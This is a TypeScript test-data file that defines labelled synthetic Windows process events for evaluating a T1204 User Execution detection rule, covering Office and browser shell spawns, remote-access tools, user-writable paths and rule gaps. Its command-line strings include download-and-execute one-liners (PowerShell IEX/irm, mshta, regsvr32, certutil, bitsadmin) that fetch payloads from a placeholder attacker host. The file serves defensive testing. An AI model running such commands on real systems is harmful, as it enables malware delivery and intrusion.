/**
 * Labelled activity injected into the synthetic DeviceProcessEvents for the T1204 User Execution rule
 * (../shared/seed/000_84ee043a12902eb7.txt). Every step says what the rule *as written* answers for
 * that row (`expect`): a DetectionCategory or null. Intent (malicious, benign, test) is separate: the
 * rule flags IT-deployed AnyDesk and misses a real ClickFix, and the ground truth records both facts.
 *
 * Parents are spelled as Defender reports them: InitiatingProcessFileName lower-case (`winword.exe`),
 * except where a step tests a case variant (`WINWORD.EXE`, `Explorer.EXE`, as Sysmon-converted
 * data has them).
 */
import { w } from './catalog/build.js';
import type { AccountKind, Integrity, Signer } from './catalog/types.js';

export const CATEGORY = {
  office: 'Office/Browser Shell Spawn',
  rat: 'Remote Access Tool Execution (Possible Social Engineering)',
  userdir: 'Executable Launched from User-Writable Directory',
} as const;
export type Expectation = keyof typeof CATEGORY | null;

export type ScenarioKind = 'office-browser-shell' | 'rat' | 'user-writable' | 'atomic' | 'lookalike' | 'allowlist' | 'tuning' | 'rule-gap' | 'case-variant' | 'term-semantics';
export type Intent = 'malicious' | 'benign' | 'test';

/** A process not in the background catalog, or a catalog process with changes (`like`). */
export interface InlineProc {
  like?: string;
  file?: string;
  dir?: string;
  asParent?: string;
  company?: string;
  product?: string;
  description?: string;
  version?: string;
  account?: AccountKind;
  integrity?: Integrity;
  signer?: Signer;
  noVersionInfo?: boolean;
}
/** A catalog FileName (`'explorer.exe'`) or an inline process. */
export type ProcRef = string | InlineProc;

export interface ScenarioStep {
  child: ProcRef;
  parent: ProcRef;
  /** InitiatingProcessParentFileName's process; default: the parent's most frequent parent. */
  grandparent?: ProcRef;
  cmd: string;
  /** null: InitiatingProcessCommandLine is NULL, as Defender sometimes leaves it. */
  parentCmd: string | null;
  expect: Expectation;
  /** The parent is the previous step's child: same process id, created at the previous row's Timestamp. */
  chained?: boolean;
}

export interface Scenario {
  name: string;
  kind: ScenarioKind;
  intent: Intent;
  note: string;
  steps: ScenarioStep[];
}

const r = String.raw;
const U = w`C:/Users/{user}/`;
const DL = `${U}Downloads\\`;
const unsigned = (file: string, dir: string, extra: Partial<InlineProc> = {}): InlineProc => ({ file, dir, signer: 'Unsigned', noVersionInfo: true, ...extra });
const explorerCmd = r`C:\Windows\Explorer.EXE`;
const b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const CDN = 'https://cdn.fabrikam-update.example';

/** Each Office app, PDF reader and browser of the rule spawns one of its shell interpreters. */
const SHELLS: Array<[string, string]> = [
  ['cmd.exe', r`C:\Windows\system32\cmd.exe /c start /b %TEMP%\{hex}.exe & del "%~f0"`],
  ['powershell.exe', `powershell.exe -nop -w hidden -enc ${b64("IEX (New-Object Net.WebClient).DownloadString('" + CDN + "/a.ps1')")}`],
  ['pwsh.exe', r`"C:\Program Files\PowerShell\7\pwsh.exe" -NoProfile -WindowStyle Hidden -Command "irm ` + CDN + r`/s.ps1 | iex"`],
  ['wscript.exe', r`"C:\Windows\System32\WScript.exe" "C:\Users\{user}\Downloads\{doc}.js"`],
  ['cscript.exe', r`cscript.exe //nologo //E:jscript "C:\Users\{user}\AppData\Local\Temp\{hex}.txt"`],
  ['mshta.exe', r`"C:\Windows\System32\mshta.exe" "` + CDN + r`/{hex}.hta"`],
  ['rundll32.exe', r`"C:\Windows\System32\rundll32.exe" C:\Users\{user}\AppData\Local\Temp\{hex}.dll,DllRegisterServer`],
  ['regsvr32.exe', r`regsvr32.exe /s /n /u /i:` + CDN + r`/{hex}.sct scrobj.dll`],
  ['certutil.exe', r`certutil.exe -urlcache -split -f ` + CDN + r`/{hex}.txt C:\Users\{user}\AppData\Local\Temp\{hex}.exe`],
  ['bitsadmin.exe', r`bitsadmin /transfer updjob /download /priority high ` + CDN + r`/{hex}.exe C:\Users\{user}\AppData\Local\Temp\svc{n}.exe`],
];

const OFFICE_PARENTS: Array<[ProcRef, string]> = [
  ['WINWORD.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\{doc}.docm" /o ""`],
  ['EXCEL.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}\{doc}.xlsm"`],
  ['POWERPNT.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\POWERPNT.EXE" "C:\Users\{user}\Downloads\{doc}.pptm" /ou ""`],
  ['OUTLOOK.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" `],
  ['MSPUB.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\MSPUB.EXE" "C:\Users\{user}\Downloads\{doc}.pub"`],
  ['ONENOTE.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\ONENOTE.EXE" "C:\Users\{user}\Downloads\{doc}.one"`],
  ['VISIO.EXE', r`"C:\Program Files\Microsoft Office\Root\Office16\VISIO.EXE" "C:\Users\{user}\Downloads\{doc}.vsdm"`],
  ['AcroRd32.exe', r`"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe" "C:\Users\{user}\Downloads\{doc}.pdf"`],
  ['Acrobat.exe', r`"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" "C:\Users\{user}\Downloads\{doc}.pdf"`],
  [{ file: 'FoxitReader.exe', dir: w`C:/Program Files (x86)/Foxit Software/Foxit Reader/`, company: 'Foxit Software Inc.', product: 'Foxit Reader', description: 'Foxit Reader', version: '10.1.4.37651', signer: 'ThirdParty' }, r`"C:\Program Files (x86)\Foxit Software\Foxit Reader\FoxitReader.exe" "C:\Users\{user}\Downloads\{doc}.pdf"`],
  ['chrome.exe', r`"C:\Program Files\Google\Chrome\Application\chrome.exe" `],
  ['msedge.exe', r`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default`],
  ['firefox.exe', r`"C:\Program Files\Mozilla Firefox\firefox.exe" `],
  ['iexplore.exe', r`"C:\Program Files\Internet Explorer\iexplore.exe" `],
  ['opera.exe', r`"C:\Users\{user}\AppData\Local\Programs\Opera\opera.exe" `],
];

function officeShellScenarios(): Scenario[] {
  return OFFICE_PARENTS.map(([parent, parentCmd], j) => {
    const [shell, cmd] = SHELLS[j % SHELLS.length]!;
    const pname = typeof parent === 'string' ? parent : parent.file!;
    return {
      name: `office-browser-${pname.toLowerCase().replace(/\.exe$/, '')}-${shell.replace(/\.exe$/, '')}`,
      kind: 'office-browser-shell',
      intent: 'malicious',
      note: `${pname} spawns ${shell}: the classic malicious-document / fake-update chain.`,
      steps: [{ child: shell, parent, cmd, parentCmd, expect: 'office' }],
    };
  });
}

const SCENARIOS_FIXED: Scenario[] = [
  {
    name: 'office-winword-wscript-powershell-chain', kind: 'office-browser-shell', intent: 'malicious',
    note: 'Word runs a dropped script; the script starts PowerShell. Only the first hop has an Office parent.',
    steps: [
      { child: 'wscript.exe', parent: 'WINWORD.EXE', cmd: r`"C:\Windows\System32\WScript.exe" "C:\Users\{user}\AppData\Local\Temp\{hex}.vbs"`, parentCmd: r`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\{doc}.doc"`, expect: 'office' },
      { child: 'powershell.exe', parent: 'wscript.exe', grandparent: 'WINWORD.EXE', cmd: `powershell.exe -nop -w hidden -enc ${b64('Start-Sleep 3; iwr ' + CDN + '/p.bin -OutFile $env:TEMP\\p.bin')}`, parentCmd: r`"C:\Windows\System32\WScript.exe" "C:\Users\{user}\AppData\Local\Temp\{hex}.vbs"`, expect: null, chained: true },
    ],
  },
  {
    name: 'case-variant-winword-upper-parent', kind: 'case-variant', intent: 'malicious',
    note: 'InitiatingProcessFileName spelled WINWORD.EXE (as Sysmon-converted data has it); has_any is case-insensitive.',
    steps: [{ child: 'cmd.exe', parent: { like: 'WINWORD.EXE', asParent: 'WINWORD.EXE' }, cmd: r`cmd.exe /c "C:\Users\{user}\AppData\Local\Temp\{hex}.bat"`, parentCmd: r`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\{doc}.docm"`, expect: 'office' }],
  },
  {
    name: 'case-variant-cmd-upper-child', kind: 'case-variant', intent: 'malicious',
    note: 'Child FileName CMD.EXE under excel.exe.',
    steps: [{ child: { like: 'cmd.exe', file: 'CMD.EXE' }, parent: 'EXCEL.EXE', cmd: r`CMD.EXE /c whoami /all > %TEMP%\{hex}.txt`, parentCmd: r`"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{user}\Downloads\{doc}.xlsm"`, expect: 'office' }],
  },

  // T1204 branch 2: remote access tools
  {
    name: 'rat-anydesk-downloads-explorer', kind: 'rat', intent: 'malicious',
    note: 'Tech-support scam: the user runs AnyDesk from Downloads. Also matches the user-writable branch; case() reports the RAT category first.',
    steps: [{ child: unsigned('AnyDesk.exe', DL, { company: 'philandro Software GmbH', product: 'AnyDesk', description: 'AnyDesk', version: '8.0.8', noVersionInfo: false, signer: 'ThirdParty' }), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\AnyDesk.exe" `, parentCmd: explorerCmd, expect: 'rat' }],
  },
  {
    name: 'rat-teamviewer-from-browser', kind: 'rat', intent: 'malicious',
    note: 'TeamViewer opened from the Chrome download bar: browser parent, but the child is not a shell, so the RAT category.',
    steps: [{ child: { file: 'TeamViewer.exe', dir: DL, company: 'TeamViewer Germany GmbH', product: 'TeamViewer', description: 'TeamViewer', version: '15.50.5.0', signer: 'ThirdParty' }, parent: 'chrome.exe', cmd: r`"C:\Users\{user}\Downloads\TeamViewer.exe" `, parentCmd: r`"C:\Program Files\Google\Chrome\Application\chrome.exe" `, expect: 'rat' }],
  },
  {
    name: 'rat-rustdesk-desktop', kind: 'rat', intent: 'malicious',
    note: 'RustDesk started from the Desktop.',
    steps: [{ child: unsigned('rustdesk.exe', `${U}Desktop\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Desktop\rustdesk.exe" `, parentCmd: explorerCmd, expect: 'rat' }],
  },
  {
    name: 'rat-supremo-edge', kind: 'rat', intent: 'malicious',
    note: 'Supremo opened from Edge downloads.',
    steps: [{ child: { file: 'Supremo.exe', dir: DL, company: 'Nanosystems S.r.l.', product: 'Supremo', description: 'Supremo Remote Desktop', version: '4.10.2.2114', signer: 'ThirdParty' }, parent: 'msedge.exe', cmd: r`"C:\Users\{user}\Downloads\Supremo.exe" `, parentCmd: r`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default`, expect: 'rat' }],
  },
  {
    name: 'rat-radmin-program-files', kind: 'rat', intent: 'malicious',
    note: 'Radmin Viewer from Program Files: the RAT branch looks at neither path nor parent.',
    steps: [{ child: { file: 'Radmin.exe', dir: w`C:/Program Files (x86)/Radmin Viewer 3/`, company: 'Famatech Corp.', product: 'Radmin Viewer', description: 'Radmin Viewer', version: '3.5.2.1', signer: 'ThirdParty' }, parent: 'explorer.exe', cmd: r`"C:\Program Files (x86)\Radmin Viewer 3\Radmin.exe" `, parentCmd: explorerCmd, expect: 'rat' }],
  },
  {
    name: 'term-semantics-ammyy-admin-space', kind: 'term-semantics', intent: 'malicious',
    note: 'FileName "Ammyy Admin.exe": the needle "ammyy admin.exe" holds a space and still matches as a run of terms.',
    steps: [{ child: unsigned('Ammyy Admin.exe', `${U}Desktop\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Desktop\Ammyy Admin.exe" `, parentCmd: explorerCmd, expect: 'rat' }],
  },
  {
    name: 'term-semantics-underscore-anydesk', kind: 'term-semantics', intent: 'malicious',
    note: '"Support_AnyDesk.exe" has "anydesk.exe" in Kusto (an underscore separates terms); a \\b regex would miss it.',
    steps: [{ child: unsigned('Support_AnyDesk.exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\Support_AnyDesk.exe" `, parentCmd: explorerCmd, expect: 'rat' }],
  },
  {
    name: 'case-variant-anydesk-upper', kind: 'case-variant', intent: 'malicious',
    note: 'FileName ANYDESK.EXE.',
    steps: [{ child: unsigned('ANYDESK.EXE', `${U}Desktop\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Desktop\ANYDESK.EXE" `, parentCmd: explorerCmd, expect: 'rat' }],
  },

  // T1204 branch 3: explorer.exe starts an .exe from a user-writable folder
  {
    name: 'user-writable-downloads-double-extension', kind: 'user-writable', intent: 'malicious',
    note: 'A double-extension lure in Downloads.',
    steps: [{ child: unsigned('Invoice_2024-0193.pdf.exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\Invoice_2024-0193.pdf.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'user-writable-desktop', kind: 'user-writable', intent: 'malicious',
    note: 'A payload run from the Desktop.',
    steps: [{ child: unsigned('Payroll_Adjustments.exe', `${U}Desktop\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Desktop\Payroll_Adjustments.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'user-writable-temp-zip', kind: 'user-writable', intent: 'malicious',
    note: 'Double-clicked inside a ZIP: Explorer extracts to AppData\\Local\\Temp\\Temp1_*.zip\\.',
    steps: [{ child: unsigned('Shipping_Docs.exe', `${U}AppData\\Local\\Temp\\Temp1_Shipping_Docs.zip\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\AppData\Local\Temp\Temp1_Shipping_Docs.zip\Shipping_Docs.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'user-writable-users-public', kind: 'user-writable', intent: 'malicious',
    note: 'A binary staged in C:\\Users\\Public.',
    steps: [{ child: unsigned('svcupdate.exe', w`C:/Users/Public/Libraries/`), parent: 'explorer.exe', cmd: r`"C:\Users\Public\Libraries\svcupdate.exe" /silent`, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'user-writable-roaming-startup', kind: 'user-writable', intent: 'malicious',
    note: 'Startup-folder persistence: explorer.exe starts it at logon from AppData\\Roaming.',
    steps: [{ child: unsigned('OneDriveSync.exe', `${U}AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\OneDriveSync.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'user-writable-onedrive-desktop', kind: 'user-writable', intent: 'malicious',
    note: 'Known-folder redirection: the Desktop lives under "OneDrive - Contoso"; "\\Desktop\\" still matches.',
    steps: [{ child: unsigned('Q4_Bonus_Letter.exe', `${U}OneDrive - Contoso\\Desktop\\`), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\OneDrive - Contoso\Desktop\Q4_Bonus_Letter.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'case-variant-explorer-mixed-case', kind: 'case-variant', intent: 'malicious',
    note: 'InitiatingProcessFileName "Explorer.EXE"; the rule compares with =~.',
    steps: [{ child: unsigned('Setup_Helper.exe', DL), parent: { like: 'explorer.exe', asParent: 'Explorer.EXE' }, cmd: r`"C:\Users\{user}\Downloads\Setup_Helper.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'case-variant-upper-extension', kind: 'case-variant', intent: 'malicious',
    note: 'FileName INVOICE.EXE: endswith is case-insensitive.',
    steps: [{ child: unsigned('INVOICE.EXE', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\INVOICE.EXE" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },

  // the four Atomic Red Team tests of the rule page, as Defender records them
  {
    name: 'atomic-1-office-macro-simulation', kind: 'atomic', intent: 'test',
    note: 'ART test 1 runs wscript.exe df00tech_test.vbs from the PowerShell executor, and the script runs cmd.exe /c whoami. No Office parent anywhere: the rule misses both rows.',
    steps: [
      { child: 'wscript.exe', parent: 'powershell.exe', cmd: r`"C:\Windows\System32\wscript.exe" "C:\Users\{user}\AppData\Local\Temp\df00tech_test.vbs"`, parentCmd: r`"powershell.exe" & {{Invoke-AtomicTest T1204 -TestNumbers 1}}`, expect: null },
      { child: 'cmd.exe', parent: 'wscript.exe', grandparent: 'powershell.exe', cmd: r`"C:\Windows\System32\cmd.exe" /c whoami > "C:\Users\{user}\AppData\Local\Temp\df00tech_result.txt"`, parentCmd: r`"C:\Windows\System32\wscript.exe" "C:\Users\{user}\AppData\Local\Temp\df00tech_test.vbs"`, expect: null, chained: true },
    ],
  },
  {
    name: 'atomic-2-clickfix-simulation', kind: 'atomic', intent: 'test',
    note: 'ART test 2: powershell.exe -enc under the powershell.exe launcher. Parent is not Office/browser, FolderPath is System32: not caught.',
    steps: [{ child: 'powershell.exe', parent: 'powershell.exe', cmd: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -enc ${b64('Write-Output ClickFix-Test-df00tech')}`, parentCmd: r`"powershell.exe" & {{Invoke-AtomicTest T1204 -TestNumbers 2}}`, expect: null }],
  },
  {
    name: 'atomic-3-rat-social-engineering', kind: 'atomic', intent: 'test',
    note: 'ART test 3: curl.exe downloads AnyDesk.exe to Downloads (not caught), then explorer.exe runs it (caught: RAT category, ahead of the user-writable branch).',
    steps: [
      { child: { file: 'curl.exe', dir: w`C:/Windows/System32/`, company: 'curl, https://curl.se/', product: 'The curl executable', description: 'The curl executable', version: '8.4.0', account: 'user', signer: 'OsVendor' }, parent: 'powershell.exe', cmd: r`"C:\Windows\System32\curl.exe" -L -o "C:\Users\{user}\Downloads\AnyDesk.exe" https://download.anydesk.com/AnyDesk.exe`, parentCmd: r`"powershell.exe" & {{Invoke-AtomicTest T1204 -TestNumbers 3}}`, expect: null },
      { child: { file: 'AnyDesk.exe', dir: DL, company: 'philandro Software GmbH', product: 'AnyDesk', description: 'AnyDesk', version: '8.0.8', signer: 'ThirdParty' }, parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\AnyDesk.exe" `, parentCmd: explorerCmd, expect: 'rat' },
    ],
  },
  {
    name: 'atomic-4-lnk-removable-media', kind: 'atomic', intent: 'test',
    note: 'ART test 4: the LNK makes explorer.exe start cmd.exe. The rule page says FolderPath is %TEMP%, but Defender\'s FolderPath is the image path (C:\\Windows\\System32\\cmd.exe): not caught.',
    steps: [{ child: 'cmd.exe', parent: 'explorer.exe', cmd: r`"C:\Windows\System32\cmd.exe" /c echo LNK-Execution-Test-df00tech > "C:\Users\{user}\AppData\Local\Temp\df00tech_lnk_out.txt"`, parentCmd: explorerCmd, expect: null }],
  },

  // benign look-alikes that only term semantics tell apart
  {
    name: 'lookalike-notcmd-under-word', kind: 'lookalike', intent: 'benign',
    note: '"notcmd.exe" contains "cmd.exe" but does not have it as a term.',
    steps: [{ child: { file: 'notcmd.exe', dir: w`C:/Program Files/Contoso/Tools/`, company: 'Contoso Ltd.', product: 'Contoso Tools', description: 'Document helper', version: '2.1.0.0', signer: 'ThirdParty' }, parent: 'WINWORD.EXE', cmd: r`"C:\Program Files\Contoso\Tools\notcmd.exe" --export "C:\Users\{user}\Documents\{doc}.docx"`, parentCmd: r`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{doc}.docx"`, expect: null }],
  },
  {
    name: 'lookalike-highlevel', kind: 'lookalike', intent: 'benign',
    note: '"highlevel.exe" contains "level.exe" (a RAT name) but not as a term.',
    steps: [{ child: { file: 'highlevel.exe', dir: w`C:/Program Files/HighLevel/`, company: 'HighLevel Inc.', product: 'HighLevel', description: 'HighLevel Desktop', version: '1.4.2.0', signer: 'ThirdParty' }, parent: 'explorer.exe', cmd: r`"C:\Program Files\HighLevel\highlevel.exe" `, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'lookalike-mywinword-parent', kind: 'lookalike', intent: 'benign',
    note: 'Parent "mywinword.exe" contains "winword.exe" but not as a term: its cmd.exe child is not an Office shell spawn.',
    steps: [{ child: 'cmd.exe', parent: { file: 'mywinword.exe', dir: w`C:/Program Files/Fabrikam/MyWinWord/`, company: 'Fabrikam Ltd.', product: 'MyWinWord', description: 'Template manager', version: '3.0.1.0', signer: 'ThirdParty' }, grandparent: 'explorer.exe', cmd: r`C:\Windows\system32\cmd.exe /c copy /y "\\fileserver01\templates\*.dotx" "C:\Users\{user}\AppData\Roaming\Microsoft\Templates\"`, parentCmd: r`"C:\Program Files\Fabrikam\MyWinWord\mywinword.exe" /sync`, expect: null }],
  },
  {
    name: 'lookalike-downloads2-folder', kind: 'lookalike', intent: 'benign',
    note: '"\\Downloads2\\" is not "\\Downloads\\".',
    steps: [{ child: { file: 'tool.exe', dir: `${U}Downloads2\\`, signer: 'Unsigned', noVersionInfo: true }, parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads2\tool.exe" `, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'lookalike-supportanydesk-service', kind: 'lookalike', intent: 'benign',
    note: '"SupportAnyDesk.exe" contains "anydesk.exe" but not as a term; Program Files, started by services.exe.',
    steps: [{ child: { file: 'SupportAnyDesk.exe', dir: w`C:/Program Files/Contoso/SupportAnyDesk/`, company: 'Contoso Ltd.', product: 'Contoso Support', description: 'Support desk agent', version: '5.2.0.0', account: 'system', signer: 'ThirdParty' }, parent: 'services.exe', cmd: r`"C:\Program Files\Contoso\SupportAnyDesk\SupportAnyDesk.exe" /service`, parentCmd: r`C:\Windows\system32\services.exe`, expect: null }],
  },

  // the rule's allow-list of installers, and what it does not cover
  ...(['Teams.exe', 'setup.exe', 'SETUP.EXE', 'OneDriveSetup.exe', 'Slack.exe', 'update.exe'] as const).map((file): Scenario => ({
    name: `allowlist-${file.toLowerCase().replace(/\.exe$/, '')}${file === file.toUpperCase() ? '-upper' : ''}-downloads`,
    kind: 'allowlist', intent: 'benign',
    note: `${file} from Downloads under explorer.exe: excluded by the rule's in~ allow-list.`,
    steps: [{ child: unsigned(file, DL, { noVersionInfo: false, signer: 'ThirdParty', company: 'Various', version: '1.0.0.0' }), parent: 'explorer.exe', cmd: `"C:\\Users\\{user}\\Downloads\\${file}" `, parentCmd: explorerCmd, expect: null }],
  })),
  {
    name: 'allowlist-zoom-roaming', kind: 'allowlist', intent: 'benign',
    note: 'Zoom.exe lives in AppData\\Roaming and explorer.exe starts it: excluded by the allow-list.',
    steps: [{ child: 'Zoom.exe', parent: 'explorer.exe', cmd: r`"C:\Users\{user}\AppData\Roaming\Zoom\bin\Zoom.exe" `, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'allowlist-miss-zoominstallerfull', kind: 'allowlist', intent: 'benign',
    note: 'ZoomInstallerFull.exe is not an allow-listed name (in~ is exact): reported.',
    steps: [{ child: { file: 'ZoomInstallerFull.exe', dir: DL, company: 'Zoom Video Communications, Inc.', product: 'Zoom', description: 'Zoom Installer', version: '5.17.5.31030', signer: 'ThirdParty' }, parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\ZoomInstallerFull.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },

  // benign activity the tuning notes describe, labelled as the rule answers
  {
    name: 'tuning-it-anydesk-msiexec', kind: 'tuning', intent: 'benign',
    note: 'IT deploys AnyDesk with msiexec.exe. The tuning note expects MSI parents to be benign, but the RAT branch ignores the parent: reported.',
    steps: [{ child: { file: 'AnyDesk.exe', dir: w`C:/Program Files (x86)/AnyDesk/`, company: 'philandro Software GmbH', product: 'AnyDesk', description: 'AnyDesk', version: '8.0.8', account: 'system', signer: 'ThirdParty' }, parent: 'msiexec.exe', grandparent: 'services.exe', cmd: r`"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent --create-shortcuts --create-desktop-icon`, parentCmd: r`C:\Windows\System32\MsiExec.exe -Embedding {hex} E Global\MSI0000`, expect: 'rat' }],
  },
  {
    name: 'tuning-it-teamviewer-sccm', kind: 'tuning', intent: 'benign',
    note: 'SCCM (CcmExec.exe) installs TeamViewer: reported by the RAT branch.',
    steps: [{ child: { file: 'TeamViewer.exe', dir: w`C:/Program Files/TeamViewer/`, company: 'TeamViewer Germany GmbH', product: 'TeamViewer', description: 'TeamViewer', version: '15.50.5.0', account: 'system', signer: 'ThirdParty' }, parent: 'CcmExec.exe', cmd: r`"C:\Program Files\TeamViewer\TeamViewer.exe" assignment --id {hex}`, parentCmd: r`C:\Windows\CCM\CcmExec.exe`, expect: 'rat' }],
  },
  {
    name: 'tuning-teamviewer-service', kind: 'tuning', intent: 'benign',
    note: 'TeamViewer_Service.exe has no term "teamviewer.exe" (the underscore splits it): not reported.',
    steps: [{ child: { file: 'TeamViewer_Service.exe', dir: w`C:/Program Files/TeamViewer/`, company: 'TeamViewer Germany GmbH', product: 'TeamViewer', description: 'TeamViewer 15', version: '15.50.5.0', account: 'system', signer: 'ThirdParty' }, parent: 'services.exe', cmd: r`"C:\Program Files\TeamViewer\TeamViewer_Service.exe"`, parentCmd: r`C:\Windows\system32\services.exe`, expect: null }],
  },
  {
    name: 'tuning-dev-script-desktop', kind: 'tuning', intent: 'benign',
    note: 'A developer double-clicks build.bat on the Desktop: cmd.exe from System32, not reported.',
    steps: [{ child: 'cmd.exe', parent: 'explorer.exe', cmd: r`C:\Windows\system32\cmd.exe /c ""C:\Users\{user}\Desktop\build.bat" "`, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'tuning-dev-tool-downloads', kind: 'tuning', intent: 'benign',
    note: 'A developer runs jq from Downloads: reported (the tuning note suggests an allow-list).',
    steps: [{ child: unsigned('jq-win64.exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\jq-win64.exe" --version`, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'tuning-finance-excel-macro', kind: 'tuning', intent: 'benign',
    note: 'A finance workbook macro shells out to copy a rates file: reported (Office shell spawn).',
    steps: [{ child: 'cmd.exe', parent: 'EXCEL.EXE', cmd: r`C:\Windows\system32\cmd.exe /c copy /y "\\fileserver01\finance\rates.csv" "C:\Users\{user}\AppData\Local\Temp\rates.csv"`, parentCmd: r`"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\fileserver01\finance\Month-end close.xlsm"`, expect: 'office' }],
  },
  {
    name: 'tuning-browser-helper-roaming', kind: 'tuning', intent: 'benign',
    note: 'A browser hands a zoommtg: link to Zoom in AppData\\Roaming: parent is not explorer.exe, not reported.',
    steps: [{ child: 'Zoom.exe', parent: 'chrome.exe', cmd: r`"C:\Users\{user}\AppData\Roaming\Zoom\bin\Zoom.exe" "--url=zoommtg://zoom.us/join?action=join&confno={n}"`, parentCmd: r`"C:\Program Files\Google\Chrome\Application\chrome.exe" `, expect: null }],
  },

  // what the rule as written does not catch (or catches only through another branch)
  {
    name: 'rule-gap-clickfix-run-dialog', kind: 'rule-gap', intent: 'malicious',
    note: 'A real ClickFix: explorer.exe (Run dialog) starts powershell.exe -enc. Parent is not Office/browser and powershell.exe is in System32: missed.',
    steps: [{ child: 'powershell.exe', parent: 'explorer.exe', cmd: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -enc ${b64("iex (irm '" + CDN + "/verify')")}`, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'rule-gap-scr-downloads', kind: 'rule-gap', intent: 'malicious',
    note: 'A .scr payload from Downloads: FileName does not end with .exe, missed.',
    steps: [{ child: unsigned('Invoice_Details.scr', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\Invoice_Details.scr" /S`, parentCmd: explorerCmd, expect: null }],
  },
  {
    name: 'rule-gap-atera-agent', kind: 'rule-gap', intent: 'malicious',
    note: 'Atera\'s real binary is AteraAgent.exe; the rule lists "atera_agent.exe": missed.',
    steps: [{ child: { file: 'AteraAgent.exe', dir: w`C:/Program Files/ATERA Networks/AteraAgent/`, company: 'Atera networks', product: 'AteraAgent', description: 'AteraAgent', version: '1.8.6.7', account: 'system', signer: 'ThirdParty' }, parent: 'msiexec.exe', grandparent: 'services.exe', cmd: r`"C:\Program Files\ATERA Networks\AteraAgent\AteraAgent.exe" /i /IntegratorLogin=it@fabrikam.example /CompanyId=1`, parentCmd: r`C:\Windows\System32\MsiExec.exe -Embedding {hex} E Global\MSI0000`, expect: null }],
  },
  {
    name: 'rule-gap-screenconnect-client', kind: 'rule-gap', intent: 'malicious',
    note: 'ScreenConnect\'s client binaries (ScreenConnect.WindowsClient.exe) do not have the term "screenconnect.exe": missed.',
    steps: [{ child: { file: 'ScreenConnect.WindowsClient.exe', dir: w`C:/Program Files (x86)/ScreenConnect Client (6f1e2d3c4b5a6978)/`, company: 'ScreenConnect Software', product: 'ScreenConnect', description: 'ScreenConnect Client', version: '23.9.8.8811', signer: 'ThirdParty' }, parent: { file: 'ScreenConnect.ClientService.exe', dir: w`C:/Program Files (x86)/ScreenConnect Client (6f1e2d3c4b5a6978)/`, company: 'ScreenConnect Software', product: 'ScreenConnect', description: 'ScreenConnect Client Service', version: '23.9.8.8811', account: 'system', signer: 'ThirdParty' }, grandparent: 'services.exe', cmd: r`"C:\Program Files (x86)\ScreenConnect Client (6f1e2d3c4b5a6978)\ScreenConnect.WindowsClient.exe" "RunRole" "{guid}" "Type=Client"`, parentCmd: r`"C:\Program Files (x86)\ScreenConnect Client (6f1e2d3c4b5a6978)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.fabrikam.example&p=8041&s={guid}"`, expect: null }],
  },
  {
    name: 'rule-gap-foxitpdfreader-cmd', kind: 'rule-gap', intent: 'malicious',
